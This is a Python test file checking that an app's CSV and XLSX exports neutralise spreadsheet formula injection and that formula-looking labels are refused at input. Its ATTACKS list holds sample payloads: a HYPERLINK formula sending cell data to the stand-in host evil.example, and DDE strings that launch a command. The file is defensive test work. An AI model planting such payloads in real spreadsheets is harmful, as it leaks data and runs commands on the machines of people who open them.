"""Exports are data, not code: text people typed never becomes a live spreadsheet formula
(issue #21, part 1), and formula-looking labels are refused where they are typed."""

import csv
import io

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from netvaerk.core.exports import append_xlsx_row, csv_row, looks_like_formula, xlsx_text
from netvaerk.extensions import db
from netvaerk.rota.models import Chore

from ..conftest import log_in
from ..factories import make_participant, make_user
from ..stats.test_capability_sections import add_chores

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A2,"Klik")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)
# What a coordinator can type into a label: any text, attackers' favourites first.
hostile_text = st.one_of(
    st.sampled_from(ATTACKS),
    st.builds(
        lambda start, rest: start + rest,
        st.sampled_from(["=", "+", "-", "@", "\t", "\r", "＝", ""]),
        st.text(
            st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40
        ),
    ),
).filter(lambda text: text.strip() != "")


# ------------------------------------------------------------------ the writers


@given(
    values=st.lists(
        st.one_of(
            hostile_text,
            st.integers(-(10**6), 10**6),
            st.floats(allow_nan=False, allow_infinity=False, width=32),
        ),
        min_size=1,
        max_size=6,
    )
)
@example(values=["\r=1+1", "a\r\nb"])  # XML reads a carriage return back as a line feed
def test_no_written_cell_is_a_formula_and_text_survives(values):
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row(values))
    (read,) = list(csv.reader(io.StringIO(buffer.getvalue())))
    for original, cell in zip(values, read, strict=True):
        if isinstance(original, str):
            assert not looks_like_formula(cell)
            assert cell == (("'" + original) if looks_like_formula(original) else original)
    workbook = Workbook()
    append_xlsx_row(workbook.active, values)
    data = io.BytesIO()
    workbook.save(data)
    sheet = load_workbook(io.BytesIO(data.getvalue())).active
    for original, cell in zip(values, sheet[1], strict=True):
        assert cell.data_type != "f"
        if isinstance(original, str):
            # The text as typed, less control codes; a text of control codes only is an empty
            # cell, which a spreadsheet (and openpyxl) reads back as no value.
            assert (cell.value or "") == xlsx_text(original)
        else:
            assert cell.value == pytest.approx(original)  # numbers stay numbers


def test_negative_and_danish_numbers_stay_numbers():
    assert csv_row(["-3", "1.234,5", "38 %", "-", "=1"]) == ["-3", "1.234,5", "38 %", "'-", "'=1"]


# ------------------------------------------------------------------ the real exports


@pytest.fixture
def report_data(network):
    """A network with residents in both readiness groups and chores done in March 2026."""
    for i in range(6):
        make_participant(network, first_name=f"P{i}", readiness_group=1 if i % 2 else 3)
    add_chores(network)
    return network


@pytest.fixture
def coordinator(client, network):
    """The client, logged in as a coordinator of the network."""
    return log_in(client, make_user("coordinator", network).email)


def _exports(client):
    csv_response = client.get("/stats/2026/3/export.csv")
    xlsx_response = client.get("/stats/2026/3/export.xlsx")
    assert csv_response.status_code == xlsx_response.status_code == 200
    assert csv_response.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = csv_response.get_data().decode("utf-8-sig")
    # Danish Excel's separator in Danish, the comma in English (labels.csv_dialect).
    rows = list(
        csv.reader(io.StringIO(text), delimiter=";" if ";" in text.split("\r\n")[0] else ",")
    )
    sheet = load_workbook(io.BytesIO(xlsx_response.get_data())).active
    return rows, sheet


@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@example(label=ATTACKS[0])
@example(label="\r=1+1")
@given(label=hostile_text)
def test_hostile_labels_reach_every_export_as_text(app, client, report_data, coordinator, label):
    """Every text a coordinator can give a name to, through CSV and XLSX, read back."""
    network = report_data
    texts = {
        "group1": label + " 1",
        "group3": label + " 3",
        "area": label + " A",
        "chore": label + " C",
        "network": label + " N",
    }
    network.group1_label, network.group3_label = texts["group1"][:60], texts["group3"][:60]
    network.housing_areas[0].name = texts["area"]
    network.name = texts["network"][:120]
    chores = db.session.scalars(db.select(Chore).where(Chore.network_id == network.id)).all()
    for number, chore in enumerate(chores):
        chore.name = f"{texts['chore'][:70]} {number}"
    db.session.commit()
    rows, sheet = _exports(client)
    csv_cells = [cell for row in rows for cell in row]
    xlsx_cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(looks_like_formula(cell) for cell in csv_cells)
    assert not any(cell.data_type == "f" for cell in xlsx_cells)
    xlsx_values = {cell.value for cell in xlsx_cells}
    for text in (texts["group1"][:60], texts["group3"][:60], f"{texts['chore'][:70]} 0"):
        assert xlsx_text(text) in xlsx_values, text
        assert (("'" + text) if looks_like_formula(text) else text) in csv_cells, text


# ------------------------------------------------------------------ typing a label


def test_formula_looking_group_label_is_refused(app, browser, network, login_as):
    login_as("coordinator")
    page = browser.get("/participants/places")
    assert page.status_code == 200
    response = browser.post(
        "/participants/places",
        {
            "places_group1": "10",
            "places_group3": "5",
            "group1_label": ATTACKS[0],
            "group3_label": "Tæt på job",
        },
        token_from="/participants/places",
        headers={"Accept-Language": "en"},
    )
    assert response.status_code == 200
    assert "Do not start the text with" in response.get_data(as_text=True)
    db.session.refresh(network)
    assert network.group1_label != ATTACKS[0]
